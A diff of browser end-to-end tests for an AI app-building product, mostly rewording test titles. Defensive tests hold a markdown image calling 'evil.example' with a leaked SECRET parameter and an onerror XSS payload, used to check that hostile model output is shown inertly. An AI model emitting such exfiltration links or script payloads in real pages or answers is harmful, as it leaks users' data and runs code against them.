@@ -57,7 +57,7 @@ test("the first page needs less than 100 KB of script, and a project not much mo
   }
 });
 
-test("somebody says what they want, sees it run, changes it, and has it live", inBrowser, async () => {
+test("a user describes an app, sees it run, changes it, and deploys it", inBrowser, async () => {
   const page = await open();
   await page.getByRole("textbox", { name: "Describe an app" }).fill("A pomodoro timer with a tomato red look");
   await page.keyboard.press("Enter");
@@ -130,7 +130,7 @@ test("an old version's code is read, and any two versions are compared", inBrows
   await page.done();
 });
 
-test("deployments are listed wherever they were begun, and the one that serves is told apart", inBrowser, async () => {
+test("deployments are listed wherever they were begun, and the live one is marked", inBrowser, async () => {
   const { id } = await project(PAGE);
   for (let n = 0; n < 12; n += 1) await live(id);
   const page = await open(`#/build/${id}/deployments`);
@@ -186,7 +186,7 @@ test("a picture is pasted, seen, sent, and there again after a reload", inBrowse
   await page.done();
 });
 
-test("what is said in one tab is in the other when one comes back to it", inBrowser, async () => {
+test("a message sent in one tab appears in the other tab", inBrowser, async () => {
   const { id } = await project(PAGE);
   const page = await open(`#/build/${id}`);
   await ready(page);
@@ -210,7 +210,7 @@ test("what is said in one tab is in the other when one comes back to it", inBrow
   await page.done();
 });
 
-test("what is changed in the editor is a version of its own, unless somebody else was first", inBrowser, async () => {
+test("a change in the editor is a version of its own, unless another one came first", inBrowser, async () => {
   const { id } = await project({ "index.html": "<!doctype html><p>words", "src/a.css": "p{}" });
   const page = await open(`#/build/${id}/code`, { mayFail: /status of 412/ });
   const editor = page.getByRole("textbox", { name: "Editor: index.html" });
@@ -234,7 +234,7 @@ test("what is changed in the editor is a version of its own, unless somebody els
   await page.done();
 });
 
-test("a compile error is one click from being sent back to the model", inBrowser, async () => {
+test("one click sends a compile error to the model", inBrowser, async () => {
   const { id } = await project({ "index.html": '<!doctype html><div id=root></div><script type=module src=/src/main.ts></script>', "src/main.ts": "const x = ;" });
   const page = await open(`#/build/${id}`, { mayFail: /status of 400/ });
   await page.getByText(/src\/main\.ts:1:\d+/).first().waitFor();
@@ -244,7 +244,7 @@ test("a compile error is one click from being sent back to the model", inBrowser
   await page.done();
 });
 
-test("errors of the running app are told, and one click from being sent back", inBrowser, async () => {
+test("errors of the running app are shown, and one click sends them to the model", inBrowser, async () => {
   const { id } = await project({ "index.html": "<!doctype html><p>shown<script src=app.js></script>", "app.js": "setTimeout(() => { throw new Error('the cart is empty') })" });
   const page = await open(`#/build/${id}`);
   await page.getByText("The app reports 1 error").click();
@@ -255,7 +255,7 @@ test("errors of the running app are told, and one click from being sent back", i
   await page.done();
 });
 
-test("an answer whose connection is cut in the middle comes whole all the same, and once", inBrowser, async () => {
+test("an answer whose connection is cut arrives whole and once", inBrowser, async () => {
   const { id } = await project(PAGE);
   let asked = 0;
   const keys = new Set();
@@ -300,7 +300,7 @@ test("a refused message says why, and is not lost", inBrowser, async () => {
   await page.done();
 });
 
-test("a page that is loaded anew while an answer comes shows it to its end", inBrowser, async () => {
+test("a page that is reloaded during an answer shows it to its end", inBrowser, async () => {
   const page = await open();
   await page.getByRole("textbox", { name: "Describe an app" }).fill("A recipe box");
   await page.keyboard.press("Enter");
@@ -332,7 +332,7 @@ const HOSTILE = `![picture](https://evil.example/p?leak=SECRET)
 \`\`\`
 `;
 
-test("what is hostile in an answer is text: it runs nothing, and asks nobody for anything", inBrowser, async () => {
+test("hostile markup in an answer is shown as text: it runs nothing and requests nothing", inBrowser, async () => {
   const { id, userId } = await project(PAGE, `<img src=x onerror="self.hacked=1">`);
   const insert = "INSERT INTO chat_messages (id, project_id, user_id, seq, role, content, status, created_at) VALUES (?, ?, ?, ?, ?, ?, 'complete', ?)";
   for (const [seq, role] of [[1, "user"], [2, "assistant"]]) await hatch.sql(insert, crypto.randomUUID(), id, userId, seq, role, HOSTILE, Date.now());
@@ -380,11 +380,11 @@ test("a hostile app reaches neither the console, nor its storage, nor the API", 
   const before = await rowsOf();
   for (const how of ["its own origin", "beside the API"]) {
     const page = await open(`#/build/${id}`, {
-      // What the app is refused.
+      // The requests that the app must not make.
       mayFail: /ERR_FAILED .*(\/api\/projects|\/auth\/me|\/auth\/keys)$|\/p\/test-app-/,
       prepare: async (page) => {
         await page.addInitScript(() => location.pathname === "/" && !location.host.includes("-") && localStorage.setItem("hatch.theme", "dark"));
-        // Without a domain for apps a preview is beside the API: that of the deployment stands for it.
+        // Without a domain for apps a preview is beside the API, so the deployment is used instead.
         if (how === "beside the API") await page.route("**/preview", (route) => route.fulfill({ json: { url: `${origin}/p/${slug}/`, expiresAt: new Date().toISOString() } }));
       },
     });
@@ -404,7 +404,7 @@ test("a hostile app reaches neither the console, nor its storage, nor the API", 
   assert.deepEqual(await rowsOf(), before);
 });
 
-test("names in other scripts and directions stand as they are written", inBrowser, async () => {
+test("names in other scripts and directions are shown as they are written", inBrowser, async () => {
   const { id } = await project(PAGE, "عدّاد الخطوات");
   await project(PAGE, "歩数計 🐣");
   const page = await open();
@@ -498,7 +498,7 @@ test("a key is made, shown once, and revoked", inBrowser, async () => {
   await page.done();
 });
 
-test("signing in with a key is signing in in every tab, and a key that is refused says so", inBrowser, async () => {
+test("signing in with a key signs in every tab, and a refused key is reported", inBrowser, async () => {
   const { key } = await (await api("POST", "/auth/keys", { name: "k", scopes: ["projects:read"] })).json();
   const page = await open("#/sign-in", { mayFail: /status of 401/ });
   const other = await page.context().newPage();
@@ -546,7 +546,7 @@ test("the keyboard alone is enough to build, and to close a dialog", inBrowser, 
   await page.done();
 });
 
-test("on a slow network the page is there before its parts, and an answer comes through", inBrowser, async () => {
+test("on a slow network the page appears before its parts, and an answer arrives", inBrowser, async () => {
   const page = await open("", {
     prepare: async (page) => {
       const session = await page.context().newCDPSession(page);
@@ -559,7 +559,7 @@ test("on a slow network the page is there before its parts, and an answer comes 
   await page.done();
 });
 
-test("a connection that is gone says so, and what was asked is asked again when it is back", inBrowser, async () => {
+test("a lost connection is shown, and its requests are repeated when it is back", inBrowser, async () => {
   const { id } = await project(PAGE);
   const page = await open(`#/build/${id}`, { mayFail: /ERR_|Failed to load/ });
   await ready(page);
